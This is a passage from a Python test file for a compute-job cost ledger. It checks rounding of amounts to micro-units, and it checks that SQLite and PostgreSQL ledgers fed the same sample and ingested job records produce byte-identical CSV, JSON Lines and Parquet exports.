    (10.0000025, 10000003), (1.25e-05, 13), (1.005, 1005000), (0.49999999999999994e-6, 1),
    (4503599627.370497, 4503599627370497), (-4503599627.370497, -4503599627370497),
    (1e10, 10**16), (0.0, 0), (-0.0, 0),
]


def test_micro_units_are_sqlites_round_on_both_servers(ledger_target: str) -> None:
    with open_store(ledger_target) as store:
        for amount, micro_units in MICRO_CASES:
            got = store.conn.scalar(f"SELECT {ex._micro_units(':x')}", {"x": amount})
            assert float(got) == micro_units, amount
            if store.dialect == "sqlite":  # the expression is SQLite's round(), written out
                assert store.conn.scalar("SELECT round(:x * 1000000)", {"x": amount}) == got


# -- the same runs in a SQLite and a PostgreSQL ledger ------------------------------------------


INGESTED_JOBS = ("501", "502", "503")


def twin_ledgers(tmp_path: Path, pg_url: str, *, ingested: bool = True) -> list[str]:
    """The sample runs, run progress and (``ingested``) runs ingested from node and jobcomp
    records (the daemon's path: settlement and rollups), put into a SQLite file and a
    PostgreSQL database alike. Returns both targets."""
    from db import ingest_records
    from tests.unit.test_db_ingest import make_jobcomp, make_node_run
    from tests.unit.test_db_ingest import make_policy as ingest_policy

    policy = ingest_policy()
    start, end = ts("2026-11-25 03:00"), ts("2026-11-25 05:30")
    cross = ts("2026-11-30 22:00"), ts("2026-12-01 01:15")  # crosses the month's end
    records = [
        make_node_run(501, start=start, end=end, util=37.5),
        make_jobcomp(501, start=start, end=end),
        make_node_run(502, start=start, end=end, gpus=2, gpu_type="h100", util=None,
                      account="nlp", user="nora"),
        make_jobcomp(502, start=start, end=end, account="nlp", user="nora",
                     state="NODE_FAIL"),
        make_node_run(503, start=cross[0], end=cross[1], util=99.1),
        make_jobcomp(503, start=cross[0], end=cross[1], array_job_id=500, array_task_id=3),
    ]
    targets = [str(tmp_path / "twin.db"), pg_url]
    for target in targets:
        store = sample_store(target)
        add_progress(store, 1, 12, 34_000, epoch_base=2, step_base=4_000)
        add_progress(store, 11, None, 7)
        add_progress(store, 9, 1, 10, epoch_base=3)  # resumed past its report: 0
        if ingested:
            result = ingest_records(store, records, policy, now=ts("2026-12-01 02:00"))
            assert result.errors == [], target
        store.close()
    return targets


@pytest.mark.parametrize("ingested", [False, True], ids=["inserted", "ingested"])
def test_sqlite_and_postgresql_ledgers_export_the_same_bytes(
        tmp_path: Path, pg_url: str, monkeypatch: pytest.MonkeyPatch, ingested: bool) -> None:
    """Same runs, two servers: every file of the export (runs and sums as CSV, JSON Lines and
    Parquet, schema, manifest with its totals and hashes) is byte-identical, for a day, a
    month read in one slice, the next month and a month read by worker processes; with runs
    inserted as they are, and also with runs the ingest settled."""
    sqlite_db, pg_db = twin_ledgers(tmp_path, pg_url, ingested=ingested)
    parquet = ex.parquet_available()
    folders = []
    for name, period, jobs in (("day", day_period(DAY), 1), ("month", month_period(2026, 11), 1),
                               ("december", month_period(2026, 12), 1),
                               ("workers", month_period(2026, 11), 2)):
        if name == "workers":
            monkeypatch.setattr(ex, "PARALLEL_MIN_RUNS", 1)
        a = export(sqlite_db, period, tmp_path / f"sqlite-{name}", jobs=jobs, parquet=parquet)
        b = export(pg_db, period, tmp_path / f"pg-{name}", jobs=jobs, parquet=parquet)
        assert digests(a.path) == digests(b.path), name
        assert a.manifest == b.manifest
        folders.append(a)
        params = {"a": period.start_ts, "b": period.end_ts}
        with ex.open_reader(sqlite_db) as one, ex.open_reader(pg_db) as other:
            assert ex._fingerprint(one.conn, params, sliced=False) == \
                ex._fingerprint(other.conn, params, sliced=False)
    month = folders[1]
    runs = {(r["job_id"], r["restart_count"]): r for r in read_csv(month.path / "runs.csv")}
    assert ingested == (set(INGESTED_JOBS) <= {job for job, _ in runs})
    assert (runs[("1", "0")]["epochs"], runs[("1", "0")]["steps"]) == ("10", "30000")
    assert (runs[("11", "0")]["epochs"], runs[("11", "0")]["steps"]) == ("", "7")
    assert runs[("9", "0")]["epochs"] == "0"
    if ingested:
        assert runs[("503", "0")]["share"] != "1.000000"  # split at the month's end
    assert month.manifest["totals"]["cost"] == folders[3].manifest["totals"]["cost"]
